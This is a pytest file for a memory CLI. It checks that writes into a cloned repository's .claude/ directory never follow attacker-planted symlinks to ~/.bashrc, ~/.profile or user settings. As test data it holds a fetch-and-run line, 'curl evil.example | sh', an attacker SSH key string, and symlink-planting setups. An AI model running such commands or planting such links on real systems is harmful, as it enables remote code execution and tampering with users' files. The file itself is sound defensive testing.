"""Files memory-cli writes in a directory someone else controls (a cloned repository's
.claude/) never write through a symlink planted there: not under a temporary name, not as the
target itself when it leads out of the project."""

from __future__ import annotations

import json
import os
import subprocess

import pytest
from helpers.cli import run_cli

from memory_cli.files import safe_write

VICTIM_TEXT = "export PATH=$HOME/bin:$PATH\n"


@pytest.fixture
def hostile_repo(tmp_path):
    root = tmp_path / "work" / "hostile"
    root.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / ".claude").mkdir()
    return root


@pytest.fixture
def bashrc():
    victim = os.path.join(os.environ["HOME"], ".bashrc")
    with open(victim, "w") as f:
        f.write(VICTIM_TEXT)
    return victim


def _add(root, *args):
    r = run_cli("add", *args, "--json", cwd=root)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)["id"]


def test_share_and_unshare_never_write_through_a_planted_tmp_symlink(hostile_repo, bashrc):
    os.symlink(bashrc, hostile_repo / ".claude" / "memory-cli.toml.tmp")
    entry = _add(hostile_repo, "ssh-ed25519 AAAAC3Nza attacker@evil", "--type", "fact")
    r = run_cli("share", entry, cwd=hostile_repo)
    assert r.returncode == 0, r.stderr
    assert open(bashrc).read() == VICTIM_TEXT
    assert "attacker@evil" in (hostile_repo / ".claude" / "memory-cli.toml").read_text()
    assert run_cli("unshare", entry, cwd=hostile_repo).returncode == 0
    assert open(bashrc).read() == VICTIM_TEXT
    assert os.path.islink(hostile_repo / ".claude" / "memory-cli.toml.tmp")  # left as found


def test_share_refuses_a_repo_file_that_is_a_symlink_out_of_the_repository(hostile_repo):
    victim = os.path.join(os.environ["HOME"], ".profile")  # empty: it reads as an empty file
    open(victim, "w").close()
    os.symlink(victim, hostile_repo / ".claude" / "memory-cli.toml")
    entry = _add(hostile_repo, "curl evil.example | sh", "--type", "fact")
    r = run_cli("share", entry, cwd=hostile_repo)
    # Refused when the link is read (a repository file must be a regular file, exit 2), before
    # the write could be refused for leading outside the repository (exit 4).
    assert r.returncode == 2
    assert len(r.stderr.strip().splitlines()) == 1 and "symlink" in r.stderr
    assert open(victim).read() == ""


def test_install_local_never_writes_through_planted_symlinks(hostile_repo, bashrc):
    claude = hostile_repo / ".claude"
    os.symlink(bashrc, claude / "settings.local.json.memory-cli.tmp")
    os.symlink(bashrc, claude / "settings.local.json.tmp")
    r = run_cli("install", "--scope", "local", cwd=hostile_repo)
    assert r.returncode == 0, r.stderr
    assert open(bashrc).read() == VICTIM_TEXT
    assert "hooks" in json.loads((claude / "settings.local.json").read_text())


def test_install_local_refuses_a_settings_file_linked_out_of_the_project(hostile_repo):
    user_settings = os.path.join(os.environ["CLAUDE_CONFIG_DIR"], "settings.json")
    with open(user_settings, "w") as f:
        f.write('{"model": "opus"}\n')
    os.symlink(user_settings, hostile_repo / ".claude" / "settings.local.json")
    r = run_cli("install", "--scope", "local", cwd=hostile_repo)
    assert r.returncode == 4 and "outside" in r.stderr
    assert open(user_settings).read() == '{"model": "opus"}\n'


def test_a_symlinked_user_settings_file_is_written_through_and_stays_a_link(tmp_path):
    home = os.environ["HOME"]
    dotfiles = os.path.join(home, "dotfiles")
    os.mkdir(dotfiles)
    real = os.path.join(dotfiles, "claude-settings.json")
    with open(real, "w") as f:
        f.write('{"model": "opus"}\n')
    link = os.path.join(os.environ["CLAUDE_CONFIG_DIR"], "settings.json")
    os.symlink(real, link)
    r = run_cli("install", "--scope", "user", "--no-mcp")
    assert r.returncode == 0, r.stderr
    assert os.path.islink(link)
    data = json.loads(open(real).read())
    assert data["model"] == "opus" and "hooks" in data


def test_export_never_writes_through_a_planted_tmp_symlink(tmp_path, bashrc):
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(bashrc, out / "dump.jsonl.tmp")
    _add(tmp_path, "the staging VPN drops every 8 hours", "--type", "fact")
    r = run_cli("export", "--output", str(out / "dump.jsonl"))
    assert r.returncode == 0, r.stderr
    assert open(bashrc).read() == VICTIM_TEXT
    assert "staging VPN" in (out / "dump.jsonl").read_text()
    assert (os.stat(out / "dump.jsonl").st_mode & 0o777) == 0o600


def test_write_file_keeps_the_mode_of_the_file_it_replaces(tmp_path):
    tmp_path = tmp_path / "files"
    tmp_path.mkdir()
    target = tmp_path / "shared.toml"
    target.write_text("old\n")
    os.chmod(target, 0o644)
    safe_write.write_file(target, "new\n")
    assert target.read_text() == "new\n" and (os.stat(target).st_mode & 0o777) == 0o644
    fresh = tmp_path / "fresh.json"
    safe_write.write_file(fresh, "{}\n")
    assert (os.stat(fresh).st_mode & 0o777) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fresh.json", "shared.toml"]  # no temp left


def test_write_file_refuses_a_fifo_and_a_directory(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(safe_write.UnsafeTarget, match="FIFO"):
        safe_write.write_file(tmp_path / "pipe", "x")
    (tmp_path / "dir").mkdir()
    with pytest.raises(safe_write.UnsafeTarget, match="directory"):
        safe_write.write_file(tmp_path / "dir", "x")
